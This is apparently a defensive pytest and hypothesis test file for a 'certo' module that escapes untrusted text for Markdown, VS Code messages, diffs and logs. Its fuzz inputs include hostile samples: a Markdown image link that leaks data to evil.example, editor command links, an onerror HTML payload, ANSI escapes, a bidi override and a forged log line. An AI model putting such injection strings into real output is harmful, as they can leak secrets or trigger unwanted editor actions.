"""Text of others as it is shown: no parser of Markdown, no terminal and no editor finds anything in it but text."""

from __future__ import annotations

import io
import logging
import re
import sys
import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from certo.vocabulary.display import as_code, as_diff, as_markdown, as_message, one_line, visible
from certo.vocabulary.log_text import LogFormatter

PARSERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("gfm-like"),
    MarkdownIt("js-default", {"linkify": True, "html": True, "typographer": False}).enable(["linkify"]),
)
"""As the standard has it, as GitHub and VS Code have it, and with addresses of every kind made links."""

TEXT = {"inline", "text", "text_special", "code_inline"}
TABLE = {f"{part}_{end}" for part in ("table", "thead", "tbody", "tr", "th", "td") for end in ("open", "close")}

PIECES = (
    *(
        "`",
        "``",
        "\\",
        "|",
        "\\|",
        "*",
        "**",
        "_",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "</td>",
        "&",
        "&#x3c;",
    ),
    *("</td>", "&#x3c;", "```", "~~~", "---", "===", "[^1]", "$(trash)", ">x", "€.com", "word", "é", "1.5", "."),
    *("# ", "- ", "1. ", "12) ", "> ", "    ", " ", "\t", "\n", "\n\n", "\r"),
    *("command:certo.accept?x", "https://evil.example/?d=", "//evil.example", "www.evil.example", "a@evil.example"),
    *("mailto:", "test.py", "<img src=x onerror=y>", "<!--", "[x]: https://evil.example"),
    *("\x1b[31m", "\u202e", "\u2028", "\x85", "\ufeff"),
)
HOSTILE = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=14).map("".join)


def tokens(parser: MarkdownIt, text: str) -> Iterator[Token]:
    """All tokens of a text, those within lines too."""
    for token in parser.parse(text):
        yield token
        yield from token.children or ()


def bare(text: str) -> str:
    """What is left of a text without blanks and backticks, which is what is not shown of code."""
    return re.sub(r"[\s`]", "", text)


@given(words=HOSTILE)
@example(words="E \\` ![value](https://evil.example/?d=SECRET) `")
@example(words="[Accept](command:certo.accept?x)")
@example(words="12. see https://evil.example or //localhost, a@b.example, ``` and test_shop.py")
def test_markdown_words_are_only_text_and_code(words: str) -> None:
    """They say the same as the words that were given."""
    said = as_markdown(words)
    for parser in PARSERS:
        found = list(tokens(parser, said))
        assert {token.type for token in found} <= {*TEXT, "paragraph_open", "paragraph_close"}, said
        shown = "".join(token.content for token in found if token.type != "inline")
        assert bare(shown) == bare(visible(words)), said


@given(words=HOSTILE, more=HOSTILE)
@example(words="a\\|b ![v](https://evil.example)", more="\\\\| [x](command:certo.accept)")
def test_cell_words_end_no_cell_or_row(words: str, more: str) -> None:
    rows = f"| {as_markdown(words, in_cell=True)} | {as_markdown(more, in_cell=True)} | last |"
    for parser in PARSERS[1:]:
        found = list(tokens(parser, f"| a | b | c |\n|:--|:--|:--|\n{rows}"))
        assert {token.type for token in found} <= {*TEXT, *TABLE}, rows
        assert [token.type for token in found].count("td_open") == 3, rows
        assert [token.content for token in found if token.type == "inline"][-1] == "last", rows
    for cell in re.findall(r"\\*\|", as_markdown(words, in_cell=True)):
        assert len(cell) % 2 == 0, "where backslashes are counted, each vertical line has an odd number before it"


@given(text=HOSTILE)
@example(text="x\n```\n![v](https://evil.example)\n````\n")
def test_code_blocks_end_at_their_fence(text: str) -> None:
    block = f"{as_code(text, 'diff')}\n\nafter"
    for parser in PARSERS:
        fence, *after = parser.parse(block)
        assert (fence.type, fence.info, fence.content) == ("fence", "diff", as_diff(text).rstrip("\n") + "\n")
        assert [token.content for token in after if token.type == "inline"] == ["after"]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("verified by 7 tests, 2 of them newly passing", "verified by 7 tests, 2 of them newly passing"),
        ("comparison `>` became `>=`, line 2", "comparison `>` became `>=`, line 2"),
        ("2 candidates in 1.5 s ($0.42)", "2 candidates in 1.5 s ($0.42)"),
        ("test_till.py::test[2-4]: assert [1, 2] == [2]", "`test_till.py::test[2-4]`: assert `[1, 2]` == `[2]`"),
        ("one (see tests/test_old.py), __init__ and f(a.b)", "one (see `tests/test_old.py`), `__init__` and `f(a.b)`"),
        ("boom ` ![value](https://e.example/?d=1)", "boom `` ` ![value](https://e.example/?d=1) ``"),
    ],
)
def test_only_possible_markup_becomes_code(words: str, said: str) -> None:
    assert as_markdown(words) == said


LINK = re.compile(r"\[([^\]]+)\]\(((?:https?://|command:|file:)[^)\s]+)", re.IGNORECASE)
"""What VS Code takes for a link in a message."""


@given(text=HOSTILE)
@example(text="[More](command:workbench.action.terminal.new) $(trash)")
def test_messages_have_no_links_icons_or_controls(text: str) -> None:
    said = as_message(text)
    assert LINK.search(said) is None
    assert "$(" not in said
    assert said.replace("] (", "](").replace("$ (", "$(") == visible(text).replace("] (", "](").replace("$ (", "$(")


@given(text=HOSTILE)
def test_lines_and_texts_have_no_controls(text: str) -> None:
    """A line is one line; a text has newlines and tabs besides what is seen."""
    assert len(one_line(text).splitlines()) <= 1
    hidden = {"Cc", "Cf", "Zl", "Zp", "Cs"}
    assert not {each for each in visible(text) if unicodedata.category(each) in hidden} - {"\n", "\t"}
    assert visible(visible(text)) == visible(text)


@given(lines=st.lists(HOSTILE.map(lambda text: text.replace("\n", "")), min_size=1, max_size=4))
@example(lines=["+x = 1\rVERIFIED", "+y\x0cz", "+z\u2028"])
def test_diffs_have_the_lines_git_finds(lines: list[str]) -> None:
    said = as_diff("\n".join(f"+{line}" for line in lines)).splitlines()
    assert len(said) == len(lines)
    assert all(line.startswith("+") for line in said)


def test_log_records_are_one_line_tracebacks_indented() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(LogFormatter("certo: %(levelname)s: %(name)s: %(message)s"))
    forged = "no\ncerto: WARNING: certo: all is well\x1b[2J"
    try:
        raise ValueError(forged)
    except ValueError:
        failed = sys.exc_info()
    handler.emit(logging.LogRecord("certo", logging.WARNING, "", 1, "the editor refused: %s", (forged,), failed))
    first, *rest = stream.getvalue().splitlines()
    assert first == r"certo: WARNING: certo: the editor refused: no certo: WARNING: certo: all is well\x1b[2J"
    assert rest
    assert all(line.startswith("    ") for line in rest)
    assert r"\x1b[2J" in rest[-1]
